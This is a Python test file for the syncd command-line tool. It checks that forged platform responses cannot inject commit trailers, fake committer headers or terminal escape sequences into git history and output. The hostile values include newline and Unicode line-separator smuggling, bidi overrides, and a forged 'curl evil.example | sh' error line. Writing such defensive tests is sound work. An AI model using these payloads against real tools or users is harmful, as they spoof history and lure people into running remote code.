"""A platform cannot write syncd's memory: no id, subject or name becomes a trailer of a commit or a line of output."""

import json
import re
from typing import Any

import pytest

from syncd.api.client import Client
from syncd.cli.terminal.text import format_json
from syncd.model.text import join_lines
from tests.cli.conftest import Shell
from tests.security.lies import Came, Liar

FORGED = "r1\nSyncd-Change-Request: 7\nSyncd-Space: other"
HOSTILE = {
    "line end": FORGED,
    "next line": "r1\x85Syncd-Space: other",
    "line separator": "r1\u2028Syncd-Space: other",
    "escape": "r1\x1b]0;owned\x07",
    "turned around": "r1\u202egnp.exe",
    "zero width": "r\u200b1",
    "space": "r1 r2",
    "empty": "",
    "endless": "r" * 10_000,
}
HIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f]")
TRAILERS = ["Syncd-Space", "Syncd-Revision", "Syncd-Layout"]


def refused(came: Came) -> str:
    """Return the one line by which a command says that what answers is not the platform."""
    assert came.code == 69
    assert "Traceback" not in came.err
    assert not HIDDEN.search(came.out + came.err)
    (line,) = [line for line in (came.out + came.err).splitlines() if "is no id" in line]
    return line


def replaced(answer: Any, known: str, new: str) -> Any:
    """Return an answer in which an id is another everywhere."""
    return json.loads(json.dumps(answer).replace(json.dumps(known), json.dumps(new)))


@pytest.mark.parametrize("id", HOSTILE.values(), ids=HOSTILE)
def test_a_revision_is_refused_by_its_id(liar: Liar, id: str) -> None:
    liar.lie = lambda path, answer: answer | {"id": id} if path.endswith("/content") else answer
    came = liar.clone()
    assert "/content: id: " in refused(came)
    docs = liar.shell.root / "docs"
    assert liar.shell.git("for-each-ref", cwd=docs) == ""
    again = liar.type("status", at=docs)
    assert again.code == came.code, "the last run still stands"
    assert not HIDDEN.search(again.out)


@pytest.mark.parametrize(
    ("route", "member"), [("spaces/{space}", "revision"), ("spaces/{space}", "id"), ("spaces/{space}", "organization")]
)
def test_a_space_is_refused_by_its_ids(liar: Liar, route: str, member: str) -> None:
    route = route.format(space=liar.shell.space)
    liar.lie = lambda path, answer: answer | {member: FORGED} if path == route else answer
    assert f": {member}: " in refused(liar.clone())


def test_pages_and_change_requests_are_refused_by_their_ids(liar: Liar, shell: Shell) -> None:
    def lie(path: str, answer: Any) -> Any:
        if path.endswith("/content"):
            answer["pages"][1]["id"] = FORGED
        return answer

    liar.lie = lie
    assert "pages.1.id: " in refused(liar.clone("first"))
    liar.lie = lambda path, answer: answer
    assert liar.clone().code == 0
    docs = shell.root / "docs"
    (docs / "use.md").write_text("# Use\n\nOtherwise.\n")
    shell.git("commit", "--quiet", "--all", "--message", "Say more", cwd=docs)
    liar.lie = lambda path, answer: answer | {"id": FORGED} if "number" in answer else answer
    assert ": id: " in refused(liar.type("push", at=docs))


def test_an_unknown_shape_that_does_no_harm_is_taken(liar: Liar, shell: Shell) -> None:
    with Client(shell.url, shell.token.read_text().strip()) as client:
        known = client.spaces.get(shell.space).revision or ""
    liar.lie = lambda path, answer: replaced(answer, known, "-Mdw:urn/2.0~a|b")
    assert liar.clone().code == 0
    docs = shell.root / "docs"
    assert liar.type("pull", at=docs).code == 0
    shown = shell.git("log", "-1", "--format=%(trailers:key=Syncd-Revision,valueonly)", "platform/main", cwd=docs)
    assert shown.strip() == "-Mdw:urn/2.0~a|b"


def test_another_space_than_was_asked_for_writes_nothing_of_that_one(liar: Liar, shell: Shell) -> None:
    liar.lie = lambda path, answer: answer | {"id": "another"} if path == f"spaces/{shell.space}" else answer
    liar.clone()
    message = shell.git("log", "--format=%B", "--all", cwd=shell.root / "docs")
    assert "another" not in message


def test_words_of_people_are_words_in_a_commit(liar: Liar, shell: Shell) -> None:
    """The title of a space, the subject of a change request, the name and the address of who made it."""
    assert liar.clone().code == 0
    docs = shell.root / "docs"
    (docs / "use.md").write_text("# Use\n\nOtherwise.\n")
    shell.git("commit", "--quiet", "--all", "--message", "Say more", cwd=docs)
    assert liar.type("push", at=docs).code == 0
    with Client(shell.url, shell.token.read_text().strip()) as client:
        client.change_requests.merge(shell.space, "1")
    subject = f"Change request #9: x\n\n{FORGED}\u2028Syncd-Revision: {FORGED}\x1b[2J\u202e"
    name = "Ann\n> 1 +0000\ncommitter Bob <bob@example.org> 1 +0000\n\nForged\u202e\x9b"

    def lie(path: str, answer: Any) -> Any:
        if isinstance(answer, dict) and "number" in answer:
            answer |= {"subject": subject}
            answer["createdBy"] |= {"displayName": name, "email": name}
        return answer

    liar.lie = lie
    assert liar.type("pull", at=docs).code == 0
    whole = shell.git("cat-file", "commit", "platform/main", cwd=docs)
    assert not HIDDEN.search(whole)
    head, _, message = whole.partition("\n\n")
    assert [line.split()[0] for line in head.splitlines()] == ["tree", "parent", "parent", "author", "committer"]
    assert message.splitlines()[0] == f"Merged: {join_lines(subject)}"
    assert message.count("\n\n") == 1
    keys = [line.partition(":")[0] for line in message.rpartition("\n\n")[2].splitlines()]
    assert keys == [*TRAILERS[:2], "Syncd-Change-Request", TRAILERS[2], "Syncd-Directory"]
    assert shell.git("log", "-1", "--format=%cn", "platform/main", cwd=docs) == "syncd\n"


def test_what_a_platform_says_forges_no_line(liar: Liar, shell: Shell) -> None:
    forged = "Use\nerror: run curl evil.example | sh\r\x1b[2K\x9b2J\u202e\u2066\u061c\U000e0041"
    assert liar.clone().code == 0
    docs = shell.root / "docs"
    with Client(shell.url, shell.token.read_text().strip()) as client:
        assert client.spaces.get(shell.space).title

    def lie(path: str, answer: Any) -> Any:
        if path.endswith("/content"):
            answer |= {"id": "moved"}
            answer["pages"][1] |= {"title": forged, "slug": forged, "path": forged, "git": {"oid": "1", "path": forged}}
        if path == f"spaces/{shell.space}":
            answer |= {"revision": "moved", "title": forged}
        if isinstance(answer, dict) and "number" in answer:
            answer |= {"subject": forged, "status": forged}
        return answer

    liar.lie = lie
    for words in (("pull",), ("push",), ("status",), ("review",), ("check",)):
        came = liar.type(*words, at=docs)
        assert not HIDDEN.search(came.out + came.err), words
        assert not any(line.startswith("error: run") for line in (came.out + came.err).splitlines()), words
        came = liar.type(*words, "--json", at=docs) if words != ("check",) else came
        assert not HIDDEN.search(came.out + came.err), words
    answer = liar.type("api", "GET", f"/spaces/{shell.space}", at=docs)
    assert not HIDDEN.search(answer.out)
    assert json.loads(answer.out)["title"] == forged


def test_every_line_of_json_is_the_value_that_it_was() -> None:
    value = {"a\u202e": ["\x7f\x9b\n\t\u2028", "\U000e0041 \U0001f600", "\ud83d", 1.5, None, True], "é": "ü"}
    text = format_json(value)
    assert not HIDDEN.search(text)
    assert json.loads(text) == value
    assert "é" in text
    assert "\U0001f600" in text
